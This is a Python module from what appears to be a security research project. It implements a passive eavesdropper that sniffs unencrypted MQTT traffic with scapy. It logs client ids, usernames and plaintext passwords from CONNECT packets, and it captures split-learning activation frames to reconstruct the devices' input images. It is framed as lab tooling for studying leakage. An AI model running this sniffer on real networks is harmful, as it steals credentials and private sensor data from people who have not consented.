"""The passive eavesdropper: reads MQTT off the wire, with no broker account.

Where `attack live` must be allowed to subscribe, this attacker only listens on a network the
device's traffic crosses (the lab network's `eve`, tools/deploy/netns.py) or reads a capture
file. scapy reassembles each TCP stream (`TCPSession`) and dissects MQTT 3.1.1 packets
(`scapy.contrib.mqtt`); MQTT 5 adds property blocks scapy does not know, which `normalise`
cuts out first (the protocol level comes from the stream's CONNECT). From CONNECT packets it
keeps the client id, user name and password; from PUBLISH packets a client sends on an
activation topic, the frames, decoded by the wire module and reconstructed by a decoder. A
stream that opens with a TLS record is counted and never parsed: TLS leaves nothing to read.
"""

import logging
import threading
from collections import Counter, OrderedDict
from pathlib import Path

from scapy.config import conf
from scapy.contrib import mqtt as scapy_mqtt
from scapy.layers.inet import IP, TCP
from scapy.packet import bind_layers, split_layers
from scapy.sessions import TCPSession

from splitleak.broker.inbox import MAX_NODES, FrameInbox, NodeTable
from splitleak.broker.urls import DEFAULT_PORTS

log = logging.getLogger("splitleak.attack")

CONNECT, PUBLISH = 1, 3
TLS_HANDSHAKE = 0x16  # the content type byte every TLS connection opens with
MQTT_PORT = DEFAULT_PORTS["mqtt"]
CAPTURE_BUFFER = 64 << 20  # bytes the kernel may queue for the capture socket


def varint(data: bytes, at: int) -> tuple[int, int] | None:
    """(value, offset after it) of MQTT's variable byte integer at `at`; None if cut short."""
    value = 0
    for i in range(4):
        if at + i >= len(data):
            return None
        byte = data[at + i]
        value |= (byte & 0x7F) << (7 * i)
        if not byte & 0x80:
            return value, at + i + 1
    raise ValueError("malformed MQTT length (more than 4 bytes)")


def _varint_bytes(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _skip_properties(body: bytes, at: int) -> bytes:
    """`body` without the MQTT 5 property block (length, then properties) that starts at `at`."""
    length, end = varint(body, at) or (None, None)
    if length is None or end + length > len(body):
        raise ValueError("MQTT 5 properties run past the packet")
    return body[:at] + body[end + length:]


def _string_end(body: bytes, at: int) -> int:
    """The offset after the length-prefixed string (or binary) at `at`."""
    return at + 2 + int.from_bytes(body[at:at + 2], "big")


def normalise(packet: bytes, level: int) -> bytes:
    """One whole MQTT packet as MQTT 3.1.1 lays it out: for level 5, the CONNECT (its own and the
    will's) and PUBLISH property blocks removed; other levels and packet types unchanged."""
    kind, flags = packet[0] >> 4, packet[0] & 0x0F
    _, start = varint(packet, 1)
    body = packet[start:]
    if kind == CONNECT:
        level = body[_string_end(body, 0)]
        if level == 5:
            at = _string_end(body, 0) + 4  # level, flags, keep-alive
            will = body[at - 3] & 0x04
            body = _skip_properties(body, at)
            if will:
                body = _skip_properties(body, _string_end(body, at))  # after the client id
    elif kind == PUBLISH and level == 5:
        at = _string_end(body, 0) + (2 if flags & 0x06 else 0)  # a packet id from QoS 1 and 2
        body = _skip_properties(body, at)
    else:
        return packet
    return packet[:1] + _varint_bytes(len(body)) + body


class MQTTStream(scapy_mqtt.MQTT):
    """scapy's MQTT fixed header, cut out of a TCP stream one whole packet at a time."""

    name = "MQTT (stream)"

    @classmethod
    def tcp_reassemble(cls, data: bytes, metadata: dict, session: dict):
        """TCPSession's hook: the first whole MQTT packet in `data` (the rest as padding, which
        scapy hands back to this hook), or None to wait for more of the stream. A stream that
        is not MQTT comes back whole as raw bytes."""
        if session.get("tls") or (not session.get("seen") and data[:1] == bytes([TLS_HANDSHAKE])):
            session["tls"] = True
            return conf.raw_layer(data)
        session["seen"] = True
        try:
            header = varint(data, 1)
            if header is None or header[0] + header[1] > len(data):
                return None
            end = header[0] + header[1]
            if data[0] >> 4 == CONNECT:
                session["level"] = data[_string_end(data, header[1])]
            packet = cls(normalise(data[:end], session.get("level", 4)))
        except (ValueError, IndexError) as exc:
            session["tls"] = True  # not MQTT after all: stop reading this stream
            log.warning("a stream that is not MQTT (%s): ignored from here on", exc)
            return conf.raw_layer(data)
        return packet / conf.padding_layer(data[end:]) if end < len(data) else packet


def listen_on(port: int) -> None:
    """Dissect TCP port `port` (both directions) as MQTT streams, whichever port the broker uses."""
    for direction in ("sport", "dport"):
        split_layers(TCP, scapy_mqtt.MQTT, **{direction: MQTT_PORT})
        bind_layers(TCP, MQTTStream, **{direction: port})


RECENT = 1024  # frames per node remembered, to count a frame handed over twice once


class _Seen:
    """A node's frames: how many, and the keys (sequence number, capture time) of the recent
    ones. scapy's reassembly hands a retransmitted segment over again once the stream's buffer
    was emptied, and a QoS 1 retry is sent again: the same frame, counted once."""

    def __init__(self):
        self.frames, self.recent = 0, OrderedDict()

    def first(self, frame) -> bool:
        key = (frame.seq, frame.captured_at)
        if key in self.recent:
            return False
        self.recent[key] = None
        if len(self.recent) > RECENT:
            self.recent.popitem(last=False)
        self.frames += 1
        return True


class Sniffer:
    """Counts, credentials, frames and (with a decoder) reconstructions from captured packets."""

    def __init__(self, port: int = MQTT_PORT, decoder=None, save_dir=None,
                 max_nodes: int = MAX_NODES):
        listen_on(port)
        self.port, self.decoder = port, decoder
        self.inbox = FrameInbox(decoder.input_shape[1:] if decoder is not None else None, log)
        self.save_dir = Path(save_dir) if save_dir else None
        self.credentials: list[dict] = []
        self.frames: list = []  # decoded, not yet reconstructed
        self.lock = threading.Lock()  # scapy's thread appends frames, the caller reconstructs
        self.counts = Counter()
        self.nodes = NodeTable(_Seen, log, max_nodes)  # frames per node, for a bounded set

    def on_packet(self, pkt) -> None:
        """scapy's `prn`: every MQTT packet a reassembled segment completes."""
        if TCP not in pkt or self.port not in (pkt[TCP].sport, pkt[TCP].dport):
            return
        if isinstance(pkt[TCP].payload, conf.raw_layer):
            self.counts["unreadable"] += 1  # TLS records, or not MQTT
            return
        to_broker = pkt[TCP].dport == self.port
        for layer in pkt[TCP].payload.iterpayloads():
            if isinstance(layer, MQTTStream):
                self.counts["mqtt packets"] += 1
            elif isinstance(layer, scapy_mqtt.MQTTConnect):
                self._connect(pkt, layer)
            elif isinstance(layer, scapy_mqtt.MQTTPublish) and to_broker:
                self._publish(layer)

    def _connect(self, pkt, connect) -> None:
        seen = {"client": pkt[IP].src if IP in pkt else None,
                "client_id": connect.clientId.decode(errors="replace"),
                "username": connect.username.decode(errors="replace")
                if connect.usernameflag else None,
                "password": connect.password.decode(errors="replace")
                if connect.passwordflag else None,
                "mqtt": {3: "3.1", 4: "3.1.1", 5: "5"}.get(connect.protolevel, "?")}
        self.counts["logins"] += 1
        if len(self.credentials) < self.nodes.limit:  # a flood of logins stays bounded too
            self.credentials.append(seen)
        log.info("CONNECT from %s: client id %r, user %r, password %r", seen["client"],
                 seen["client_id"], seen["username"], seen["password"])

    def _publish(self, publish) -> None:
        topic = publish.topic.decode(errors="replace")
        if not topic.endswith("/activations"):  # status and predictions are not frames
            return
        frame = self.inbox.decode(topic, bytes(publish.value))
        if frame is None:
            return
        with self.lock:
            if not self.nodes[frame.node_id].first(frame):
                self.counts["repeats"] += 1
                return
            self.counts["frames"] += 1
            self.frames.append(frame)

    def reconstruct(self) -> list:
        """Reconstruct the frames decoded since the last call: [(frame, image)]."""
        import numpy as np

        from splitleak.attack.blackbox import reconstruct
        from splitleak.attack.live import save_png, to_png

        with self.lock:
            frames, self.frames = self.frames, []
        if self.decoder is None or not frames:
            return []
        images = reconstruct(self.decoder, np.stack([f.as_float32() for f in frames]))
        if self.save_dir:
            for frame, image in zip(frames, images, strict=True):
                save_png(self.save_dir, frame, to_png(image))
        self.counts["reconstructed"] += len(frames)
        return list(zip(frames, images, strict=True))

    def stats(self) -> dict:
        return {"mqtt_packets": self.counts["mqtt packets"], "frames": self.counts["frames"],
                "nodes": {n: s.frames for n, s in self.nodes.items()},
                "repeats": self.counts["repeats"], "rejected": dict(self.inbox.rejected),
                "reconstructed": self.counts["reconstructed"],
                "unreadable": self.counts["unreadable"], "logins": self.counts["logins"],
                "nodes_evicted": self.nodes.evicted, "credentials": self.credentials}


def read_pcap(sniffer: Sniffer, path) -> None:
    """Feed every packet of a capture file (pcap or pcapng) to the sniffer."""
    from scapy.sendrecv import sniff

    if not Path(path).is_file():
        raise FileNotFoundError(f"no capture file {path}")
    sniff(offline=str(path), session=TCPSession, prn=sniffer.on_packet, store=False)


class _Recording(TCPSession):
    """TCPSession that first writes each packet, as captured, to a pcap file."""

    def __init__(self, writer, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.writer = writer

    def process(self, pkt, cls=None):
        self.writer.write(pkt)
        return super().process(pkt, cls)


def listen(sniffer: Sniffer, iface: str, stop: threading.Event, every: float = 0.5,
           until=None, write=None, on_batch=None, on_ready=None) -> None:
    """Capture on `iface` (promiscuous) until `stop` is set or `until()` holds, reconstructing
    every `every` s; `write`: a pcap file that gets every packet; `on_ready()` once the capture
    runs, `on_batch` with each [(frame, image)] batch."""
    from scapy.sendrecv import AsyncSniffer
    from scapy.utils import PcapWriter

    conf.bufsize = CAPTURE_BUFFER  # scapy's 64 KiB drops segments of a burst: the kernel
    # queues what this thread has not read yet, up to its net.core.rmem_max (root lifts that)
    writer = PcapWriter(str(write), sync=True) if write else None
    capture = AsyncSniffer(iface=iface, session=_Recording(writer) if writer else TCPSession,
                           prn=sniffer.on_packet, store=False, started_callback=on_ready)
    capture.start()
    try:
        while not stop.wait(every):
            if capture.thread is not None and not capture.thread.is_alive():
                raise OSError(f"capture on {iface} stopped: {capture.exception or 'no reason'}")
            if (batch := sniffer.reconstruct()) and on_batch:
                on_batch(batch)
            if until is not None and until():
                break
    finally:
        if capture.running:
            capture.stop()
        if writer:
            writer.close()
    if (batch := sniffer.reconstruct()) and on_batch:
        on_batch(batch)
